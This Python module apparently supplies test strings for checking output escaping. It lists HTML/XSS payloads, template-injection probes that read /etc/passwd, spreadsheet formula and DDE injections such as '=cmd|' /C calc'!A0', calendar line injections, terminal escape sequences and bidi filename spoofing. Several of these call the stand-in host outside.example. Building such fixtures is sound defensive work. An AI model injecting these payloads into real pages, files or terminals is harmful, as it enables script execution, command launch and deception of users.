"""Texts that try to become something else where they are shown: script, markup, a formula, a line of a calendar,
a command to the terminal. Each calls `hit()` or asks for outside.example, so that its success can be seen."""

from __future__ import annotations

from typing import Final

OUTSIDE: Final = "outside.example"

MARKUP: Final = [
    "<script>hit(1)</script>",
    "<ScRiPt src=//outside.example/x.js></sCrIpT>",
    "<img src=x onerror=hit(1)>",
    "<img src=https://outside.example/x.png>",
    "<svg onload=hit(1)>",
    "<svg/onload=hit(1)//",
    "<svg><animate onbegin=hit(1) attributeName=x dur=1s>",
    '"><img src=x onerror=hit(1)>',
    "'><img src=x onerror=hit(1)>",
    '" onfocus="hit(1)" autofocus="" tabindex="0',
    "' onfocus='hit(1)' autofocus='' tabindex='0",
    '" style="background:url(https://outside.example/x)" x="',
    "x` onerror=hit(1) `",
    "x onmouseover=hit(1) autofocus onfocus=hit(1)",
    "javascript:hit(1)",
    "JaVaScRiPt:hit(1)//",
    "data:text/html,<script>parent.hit(1)</script>",
    "//outside.example/x",
    "https://outside.example/x",
    "</script><script>hit(1)</script>",
    "</title><script>hit(1)</script>",
    "</style><script>hit(1)</script>",
    "</textarea><script>hit(1)</script>",
    "</text></svg><script>hit(1)</script>",
    "<!--><script>hit(1)</script>",
    "--><script>hit(1)</script>",
    "]]><script>hit(1)</script>",
    "<iframe srcdoc='<script>parent.hit(1)</script>'>",
    "<iframe src=https://outside.example/></iframe>",
    "<link rel=stylesheet href=https://outside.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://outside.example/'>",
    "<base href=https://outside.example/>",
    "<style>@import 'https://outside.example/x.css'</style>",
    "red;background:url(https://outside.example/x)",
    "&lt;img src=x onerror=hit(1)&gt;",
    "&#60;img src=x onerror=hit(1)&#62;",
    "\\u003cimg src=x onerror=hit(1)\\u003e",
    "%3Cimg%20src=x%20onerror=hit(1)%3E",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "{{ self.__init__.__globals__ }}",
    "${hit(1)}`hit(1)`",
    "');hit(1);//",
    '");hit(1);//',
    "[x](javascript:hit(1))",
    "![x](https://outside.example/x.png)",
    "<a href=part:x onclick=hit(1)>x</a>",
    "<form action=https://outside.example/><input name=body autofocus onfocus=hit(1)>",
    "<math><mtext></table><mglyph><style><img src=x onerror=hit(1)>",
    "<template><script>hit(1)</script></template>",
    "__proto__",
    "constructor",
]
"""For pages, feeds, drawings and data."""

FORMULAS: Final = [
    '=HYPERLINK("https://outside.example/"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1+cmd|x",
    "-1+1+cmd|x",
    "@SUM(1+1)*x",
    "\t=1+1+x",
    "\r=1+1+x",
    "\n=1+1+x",
    "\uff1d1+1+x",
    "\uff0b1+1+x",
    "\uff0d1+1+x",
    "\uff20SUM(1)x",
    "x;=1+1",
    "x\t=1+1",
    "x\n=1+1",
    '"x";=1+1',
    "%0A-3+3+x",
    "DDE(x)",
]
"""For spreadsheets."""

CALENDAR_LINES: Final = [
    "x\r\nBEGIN:VEVENT\r\nSUMMARY:hit\r\nEND:VEVENT",
    "x\nATTACH:https://outside.example/x",
    "x\rURL:https://outside.example/x",
    "x\\nATTACH:https://outside.example/x",
    "x\u2028ATTACH:https://outside.example/x",
    "x\x85ATTACH:https://outside.example/x",
    ';VALUE=URI:x,y;z\\"',
]
"""For calendars."""

TERMINAL: Final = [
    "x\x1b]0;hit\x07",
    "x\x1b]8;;https://outside.example/\x1b\\x\x1b]8;;\x1b\\",
    "x\x1b]52;c;aGl0\x07",
    "x\x1b[2J\x1b[H",
    "x\x1b[8mhidden\x1b[5m",
    "x\x1bP$q\x1b\\",
    "x\x1bc",
    "x\x9b2J",
    "x\x9d0;hit\x9c",
    "x\x90q\x9c",
    "x\x08\x08\x08y",
    "x\x07\x0b\x0c\x0e\x7f",
    "x\u202egpj.exe",
    "x\u2066y\u2067z\u2069",
    "x\u200e\u200f\u061cy",
    "x\ufeff\ufff9y\ufffb",
    "x\x1b%G\x1b(0",
]
"""For terminals, and for eyes."""

STRINGS: Final = [*MARKUP, *FORMULAS, *CALENDAR_LINES, *TERMINAL]
